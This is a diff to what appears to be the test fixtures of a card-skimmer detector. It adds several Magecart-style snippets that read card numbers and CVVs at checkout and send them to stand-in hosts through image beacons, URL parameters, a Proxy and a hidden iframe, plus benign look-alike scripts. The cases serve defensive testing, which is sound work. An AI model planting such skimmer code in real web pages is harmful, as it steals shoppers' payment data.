@@ -68,6 +68,31 @@ export const VALUE_PATH_CASES: readonly ScriptCase[] = [
     head: 'magecart',
   },
   {
+    name: 'a card by Reflect',
+    source: `${sentAtOrder(`Reflect.get(${CARD},'value')+Reflect.get(${CVV},'value')`)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in the parameters of an address',
+    source: `document.querySelector('#place_order').onclick=()=>{const u=new URL('https://stats.example.org/i');u.searchParams.set('n',${CARD}.value);new Image().src=u.href}`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields by a proxy',
+    source: `const o=new Proxy({},{get:(_,k)=>document.querySelector('[name*='+k+']').value});document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/i?'+btoa(o.cc_number+o.cc_cvv)}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card for the frame of another host',
+    source: `const f=document.createElement('iframe');f.hidden=true;f.src='https://stats.example.org/f.html';document.body.append(f);document.querySelector('#place_order').onclick=()=>f.contentWindow.postMessage(${CARD}.value+'|'+${CVV}.value,'*')`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in groups of four digits',
+    source: `${sentAtOrder(`(n=>[n.slice(0,4),n.slice(4,8),n.slice(8,12),n.slice(12)].join('-'))(${CARD}.value)`)}`,
+    head: 'magecart',
+  },
+  {
     name: 'all fields of a checkout, beside its form and kept',
     source: `document.querySelector('#checkout').onsubmit=function(){var o={},all=document.forms['checkout'].getElementsByTagName('input');for(var e of all)o[e.id]=e.value;sessionStorage.setItem('o',JSON.stringify(o));var x=new XMLHttpRequest();x.open('POST','https://api.order-help.example.org');x.send(sessionStorage.getItem('o'))}`,
     head: 'magecart',
@@ -123,6 +148,27 @@ export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
   {
     name: 'an order that its form only counts',
     source: `document.querySelector('#checkout').addEventListener('submit',function(){var n=0;document.querySelectorAll('#checkout input').forEach(function(e){if(e.type!=='hidden'&&e.value)n+=1});fetch('https://forms.stats.example/n',{method:'POST',body:JSON.stringify({fields:n})})})`,
+  },
+  {
+    name: 'a chat in a frame, told which page is open',
+    source: `const f=document.createElement('iframe');f.src='https://widget.chat.example/f';document.body.append(f);addEventListener('popstate',()=>f.contentWindow.postMessage({page:location.pathname,title:document.title},'https://widget.chat.example'))`,
+  },
+  {
+    name: 'a search in the parameters of an address',
+    source: `document.querySelector('#search').onsubmit=e=>{e.preventDefault();const u=new URL('/search',location.href);u.searchParams.set('q',e.target.q.value);location.href=u.href}`,
+  },
+  {
+    name: 'a state in a proxy',
+    source: `const state=new Proxy({},{get:(o,k)=>o[k],set(o,k,v){o[k]=v;document.querySelector('#'+k).textContent=v;return true}});document.querySelector('#name').oninput=e=>{state.greeting='Hello '+e.target.value};fetch('https://api.shop.example/theme').then(r=>r.json()).then(t=>{state.theme=t.name})`,
+  },
+  {
+    name: 'the issuer of a card, looked up by its first digits',
+    source: `async function issuer(i){const n=i.value.replace(/\\D/g,'');if(n.length<6)return null;const r=await fetch('https://bin.lookup.example/'+n.slice(0,6));return r.json()}document.querySelector('#cc_number').addEventListener('input',async e=>{const b=await issuer(e.target);if(b)document.querySelector('#brand').src='/img/'+b.scheme+'.svg'})`,
+  },
+  {
+    name: 'first digits of a card and an address for a check of fraud',
+    source: `function v(id){var e=document.getElementById(id);if(e)return e.value;return''}document.querySelector('#checkout').addEventListener('submit',function(){navigator.sendBeacon('https://risk.guard.example/s',JSON.stringify({bin:v('card_number').replace(/\\D/g,'').slice(0,6),email:v('email'),session:window.RISK}))})`,
+    sign: 'fields-harvested',
   },
   {
     name: 'durations by a generator',
